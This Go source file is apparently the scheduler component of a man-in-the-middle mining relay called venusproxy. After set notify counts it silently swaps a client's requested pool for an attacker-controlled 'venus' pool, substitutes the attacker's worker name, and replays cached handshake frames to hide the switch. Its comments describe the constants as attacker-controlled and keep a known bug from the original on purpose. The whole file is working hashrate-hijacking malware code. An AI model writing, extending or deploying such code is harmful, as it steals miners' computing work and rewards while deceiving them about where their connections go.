// Package scheduler holds the process-wide state that decides which
// upstream pool a new connection is steered to, and caches the handshake
// replays the MITM relay uses to make a pool switch invisible to the
// client.
//
// All of it is shared across every per-connection goroutine. The phase
// word is the only field that must be linearizable (new connections must
// observe a flip promptly); the cached reply/counter fields are read and
// written without a lock in the original design and the external contract
// only promises last-writer-wins for them, so here they sit behind one
// mutex purely for memory-safety under the race detector — not for any
// ordering guarantee beyond what the original provides.
package scheduler

import (
	"sync"
	"sync/atomic"

	"github.com/tos-network/venusproxy/internal/bytesutil"
)

// Phase selects which upstream pool new connections are dialed to.
type Phase int32

const (
	Real Phase = iota
	Venus
)

func (p Phase) String() string {
	if p == Venus {
		return "venus"
	}
	return "real"
}

const (
	maxSubscribeReply = 512
	maxNotify         = 1024
	maxDifficulty     = 256

	// realFlipThreshold/venusFlipThreshold are notify counts strictly
	// greater than which trigger a phase flip: the 6th real notify (count
	// reaches 6, threshold 5) flips REAL->VENUS; the 4th venus notify
	// flips VENUS->REAL.
	realFlipThreshold  = 5
	venusFlipThreshold = 3
)

const (
	resultTrueTemplate     = `{"id": REPLACE_PATTERN,"result": true,"error": null}`
	setDifficultyTemplate  = `{"id": null,"method": "mining.set_difficulty","params": [REPLACE_PATTERN]}`
	replacePatternLiteral  = "REPLACE_PATTERN"
)

// Scheduler is the shared dual-pool switching state, component F of the
// relay. A single instance is constructed at process start and handed to
// every per-connection driver.
type Scheduler struct {
	phase atomic.Int32

	mu                 sync.Mutex
	realNotifyCount    int
	venusNotifyCount   int
	realSubscribeReply []byte
	venusSubscribeReply []byte
	realNotify         []byte
	venusNotify         []byte
	realDifficulty      []byte
	venusDifficulty      []byte

	venusHost       string
	venusPort       uint16
	venusWorkerName string

	guard *DialGuard
}

// Config carries the attacker-controlled constants the scheduler needs:
// where the venus pool lives and what worker name to substitute into
// frames destined for it.
type Config struct {
	VenusHost       string
	VenusPort       uint16
	VenusWorkerName string
}

// New builds a Scheduler starting in the Real phase with empty caches.
func New(cfg Config) *Scheduler {
	return &Scheduler{
		venusHost:       cfg.VenusHost,
		venusPort:       cfg.VenusPort,
		venusWorkerName: cfg.VenusWorkerName,
		guard:           NewDialGuard(),
	}
}

// Phase returns the current steering phase.
func (s *Scheduler) Phase() Phase {
	return Phase(s.phase.Load())
}

// Guard returns the single-slot dial-guard semaphore (component 4.G).
func (s *Scheduler) Guard() *DialGuard { return s.guard }

// VenusWorkerName returns the worker identifier substituted into frames
// forwarded to the venus pool.
func (s *Scheduler) VenusWorkerName() string { return s.venusWorkerName }

// DialTarget returns the host:port a new connection should actually dial,
// given the host:port the client's CONNECT request asked for. When the
// scheduler is in the Venus phase, the client's requested destination is
// silently replaced.
func (s *Scheduler) DialTarget(requestedHost string, requestedPort uint16) (host string, port uint16) {
	if s.Phase() == Venus {
		return s.venusHost, s.venusPort
	}
	return requestedHost, requestedPort
}

// ObserveNotify is called by the switching relay (4.E.2) on every
// server-to-client NOTIFY frame. It increments the active phase's own
// counter and, once that phase's own threshold is exceeded, resets the
// counter and flips the phase. It reports whether a flip occurred.
func (s *Scheduler) ObserveNotify() bool {
	s.mu.Lock()
	defer s.mu.Unlock()

	switch Phase(s.phase.Load()) {
	case Real:
		s.realNotifyCount++
		if s.realNotifyCount > realFlipThreshold {
			s.realNotifyCount = 0
			s.phase.Store(int32(Venus))
			return true
		}
	case Venus:
		s.venusNotifyCount++
		if s.venusNotifyCount > venusFlipThreshold {
			s.venusNotifyCount = 0
			s.phase.Store(int32(Real))
			return true
		}
	}
	return false
}

// ObserveNotifyMITM is the MITM relay's (4.E.3) counterpart to
// ObserveNotify. It deliberately reproduces a bug present in the original
// implementation: while the active phase is Real, the flip check reads the
// Venus counter instead of the Real counter. See SPEC_FULL.md §9 and
// DESIGN.md — this is kept verbatim per instruction not to "fix"
// unconfirmed behavior from the source material. The Venus-phase branch
// has no such bug and checks its own counter.
func (s *Scheduler) ObserveNotifyMITM() bool {
	s.mu.Lock()
	defer s.mu.Unlock()

	switch Phase(s.phase.Load()) {
	case Real:
		s.realNotifyCount++
		if s.venusNotifyCount > realFlipThreshold { // intentional: see doc comment
			s.venusNotifyCount = 0
			s.phase.Store(int32(Venus))
			return true
		}
	case Venus:
		s.venusNotifyCount++
		if s.venusNotifyCount > venusFlipThreshold {
			s.venusNotifyCount = 0
			s.phase.Store(int32(Real))
			return true
		}
	}
	return false
}

// CacheSubscribeReply stores the last INIT_SUBSCRIBE payload seen for the
// given phase, truncated to the 512-byte bound of the original.
func (s *Scheduler) CacheSubscribeReply(p Phase, payload []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		s.venusSubscribeReply = truncate(payload, maxSubscribeReply)
	} else {
		s.realSubscribeReply = truncate(payload, maxSubscribeReply)
	}
}

// SubscribeReply returns the cached INIT_SUBSCRIBE payload for the given
// phase, and whether one is present — an empty cache means "behave
// normally", per the invariant that empty means no cached value.
func (s *Scheduler) SubscribeReply(p Phase) ([]byte, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		return s.venusSubscribeReply, len(s.venusSubscribeReply) > 0
	}
	return s.realSubscribeReply, len(s.realSubscribeReply) > 0
}

// CacheNotify stores the last NOTIFY payload seen for the given phase.
func (s *Scheduler) CacheNotify(p Phase, payload []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		s.venusNotify = truncate(payload, maxNotify)
	} else {
		s.realNotify = truncate(payload, maxNotify)
	}
}

// Notify returns the cached NOTIFY payload for the given phase.
func (s *Scheduler) Notify(p Phase) ([]byte, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		return s.venusNotify, len(s.venusNotify) > 0
	}
	return s.realNotify, len(s.realNotify) > 0
}

// CacheDifficulty stores the extracted "params":[...] contents of the last
// SET_DIFFICULTY frame seen for the given phase.
func (s *Scheduler) CacheDifficulty(p Phase, params []byte) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		s.venusDifficulty = truncate(params, maxDifficulty)
	} else {
		s.realDifficulty = truncate(params, maxDifficulty)
	}
}

// Difficulty returns the cached difficulty params for the given phase.
func (s *Scheduler) Difficulty(p Phase) ([]byte, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if p == Venus {
		return s.venusDifficulty, len(s.venusDifficulty) > 0
	}
	return s.realDifficulty, len(s.realDifficulty) > 0
}

// ResultTrueMessage renders the "{id, result:true}" ack template with id
// substituted in for the placeholder.
func ResultTrueMessage(id []byte) []byte {
	return bytesutil.Substitute([]byte(resultTrueTemplate), []byte(replacePatternLiteral), id)
}

// SetDifficultyMessage renders the "mining.set_difficulty" notification
// template with params substituted in for the placeholder.
func SetDifficultyMessage(params []byte) []byte {
	return bytesutil.Substitute([]byte(setDifficultyTemplate), []byte(replacePatternLiteral), params)
}

// Snapshot is a point-in-time, read-only view of scheduler state for
// introspection (internal/admin).
type Snapshot struct {
	Phase               string
	RealNotifyCount     int
	VenusNotifyCount    int
	HasRealSubscribe    bool
	HasVenusSubscribe   bool
	HasRealNotify       bool
	HasVenusNotify      bool
	HasRealDifficulty   bool
	HasVenusDifficulty  bool
}

// Snapshot returns a copy of the current scheduler state for read-only
// introspection; it takes the same lock as every mutator so the fields it
// reports are mutually consistent at the instant of the call.
func (s *Scheduler) Snapshot() Snapshot {
	s.mu.Lock()
	defer s.mu.Unlock()
	return Snapshot{
		Phase:              s.Phase().String(),
		RealNotifyCount:    s.realNotifyCount,
		VenusNotifyCount:   s.venusNotifyCount,
		HasRealSubscribe:   len(s.realSubscribeReply) > 0,
		HasVenusSubscribe:  len(s.venusSubscribeReply) > 0,
		HasRealNotify:      len(s.realNotify) > 0,
		HasVenusNotify:     len(s.venusNotify) > 0,
		HasRealDifficulty:  len(s.realDifficulty) > 0,
		HasVenusDifficulty: len(s.venusDifficulty) > 0,
	}
}

func truncate(b []byte, max int) []byte {
	if len(b) <= max {
		out := make([]byte, len(b))
		copy(out, b)
		return out
	}
	out := make([]byte, max)
	copy(out, b[:max])
	return out
}
